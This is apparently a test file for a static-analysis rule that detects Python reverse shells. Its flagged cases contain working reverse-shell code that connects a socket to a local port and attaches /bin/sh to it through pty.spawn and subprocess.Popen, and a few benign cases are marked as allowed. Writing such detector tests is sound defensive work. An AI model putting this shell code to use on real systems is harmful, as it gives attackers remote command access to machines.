import os
import pty
import socket
import subprocess

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("127.0.0.1", 4444))
# ruleid: python-reverse-shell
os.dup2(s.fileno(), 0)
# ruleid: python-reverse-shell
pty.spawn("/bin/sh")


def serve():
    conn = socket.socket()
    conn.connect(("127.0.0.1", 4445))
    # ruleid: python-reverse-shell
    subprocess.Popen(["/bin/sh", "-i"], stdin=conn.fileno(), stdout=conn.fileno())


# ok: python-reverse-shell
os.dup2(os.open("/tmp/log.txt", os.O_WRONLY), 1)

# ok: python-reverse-shell
subprocess.run(["ls"], stdin=subprocess.DEVNULL)
